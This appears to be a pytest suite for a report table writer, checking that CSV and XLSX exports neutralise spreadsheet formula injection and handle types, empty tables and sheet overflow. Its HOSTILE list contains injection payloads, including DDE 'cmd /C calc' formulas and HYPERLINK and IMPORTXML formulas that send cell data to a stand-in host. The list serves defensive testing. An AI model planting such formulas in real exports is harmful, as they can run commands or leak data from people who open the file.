"""The one writer of tables: whatever a cell holds, a spreadsheet shows it and runs none of it."""

import csv
import re
import zipfile
from datetime import date, datetime
from decimal import Decimal

import openpyxl
import pytest

from guanbao.engine.reports.tables import table_write

HOSTILE = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-1+1", "@SUM(A1)",
    "\t=1+1", "\r=1+1", "\n=1+1", " \t=1+1", "\x00=1+1", "\x0b=1+1", "\u200b=1+1", "\ufeff=1+1", "\u202e=1+1",
    "＝1+1", "＋1+1", "－1+1", "＠SUM(A1)", '=DDE("cmd";"/C calc";"x")', '=IMPORTXML(CONCAT("http://e/",A1),"//a")',
    "#REF!", "#N/A", "'=1+1", '"=1+1', '";=1+1', "a,=1+1", "a\n=1+1", "a\r\n=1+1", "a;=1+1", "\x1b[2J", "</t></is><c>",
    "]]>", "&lt;", "_x003D_1+1", "_x0000_", "😀", "x" * 40_000,
    "华东示范银行", "{=1+1}", "=" * 9_000,
]  # fmt: skip
RUNS = re.compile(r"[=+\-@＝＋－＠\t\r\n]")


def test_a_csv_cell_runs_nothing(tmp_path):
    file = tmp_path / "a.csv"
    rows = [[n, text, text] for n, text in enumerate(HOSTILE)]
    assert table_write(file, "csv", "t", ["n", "=head", "text"], iter(rows)) == len(HOSTILE)
    raw = file.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    with file.open(encoding="utf-8-sig", newline="") as read:
        read_back = list(csv.reader(read, strict=True))
    assert len(read_back) == len(HOSTILE) + 1, "no cell begins a row of its own"
    for row in read_back:
        assert len(row) == 3
        assert [cell for cell in row if RUNS.match(cell)] == []
        assert [cell for cell in row if any(ord(char) < 32 or ord(char) == 127 for char in cell)] == []
    # A spreadsheet told to part cells at semicolons or tabs meets nothing that runs at the start of a line either.
    assert [line for line in raw.decode("utf-8-sig").splitlines() if RUNS.match(line)] == []
    assert read_back[HOSTILE.index("华东示范银行") + 1][1] == "华东示范银行"


def test_a_workbooks_cell_runs_nothing(tmp_path):
    file = tmp_path / "a.xlsx"
    table_write(file, "xlsx", "=t[1]:*?/\\", ["n", "=head"], ([n, text] for n, text in enumerate(HOSTILE)))
    with zipfile.ZipFile(file) as packed:
        sheets = [packed.read(name).decode() for name in packed.namelist() if "worksheets/" in name]
        assert not [name for name in packed.namelist() if "external" in name.lower()]
    assert not any(re.search("<f[ >/]", sheet) for sheet in sheets)
    [sheet] = openpyxl.load_workbook(file)
    cells = list(sheet.iter_rows())
    assert len(cells) == len(HOSTILE) + 1
    assert {row[1].data_type for row in cells} == {"s"}
    assert cells[1][1].value == "=1+1"
    assert cells[HOSTILE.index("华东示范银行") + 1][1].value == "华东示范银行"


def test_numbers_and_dates_are_typed(tmp_path):
    row = [-7, Decimal("-1234.50"), date(2026, 11, 25), datetime(2026, 11, 25, 8, 30), None, "-"]  # noqa: DTZ001
    table_write(tmp_path / "a.xlsx", "xlsx", "t", list("abcdef"), [row])
    [_, cells] = openpyxl.load_workbook(tmp_path / "a.xlsx").worksheets[0].iter_rows()
    assert [cell.data_type for cell in cells] == ["n", "n", "d", "d", "n", "s"]
    assert cells[1].value == -1234.5
    table_write(tmp_path / "a.csv", "csv", "t", list("abcdef"), [row])
    assert (tmp_path / "a.csv").read_text(encoding="utf-8-sig").splitlines()[1] == (
        "-7,-1234.50,2026-11-25,2026-11-25 08:30:00,,'-"
    )


@pytest.mark.parametrize("form", ["csv", "xlsx"])
def test_no_rows_are_a_table_too(tmp_path, form):
    assert table_write(tmp_path / "a", form, "t", ["a"], []) == 0
    assert (tmp_path / "a").stat().st_size > 0


def test_the_same_rows_are_the_same_bytes(tmp_path):
    for name in "ab":
        table_write(tmp_path / name, "xlsx", "t", ["a"], [["x"]])
    assert (tmp_path / "a").read_bytes() == (tmp_path / "b").read_bytes()


def test_a_sheet_that_is_full_goes_on_in_another(tmp_path, monkeypatch):
    monkeypatch.setattr("guanbao.engine.reports.tables._SHEET", 2)
    assert table_write(tmp_path / "a.xlsx", "xlsx", "t", ["a"], ([n] for n in range(5))) == 5
    book = openpyxl.load_workbook(tmp_path / "a.xlsx")
    assert [(sheet.title, sheet.max_row) for sheet in book] == [("t", 3), ("t 2", 3), ("t 3", 2)]
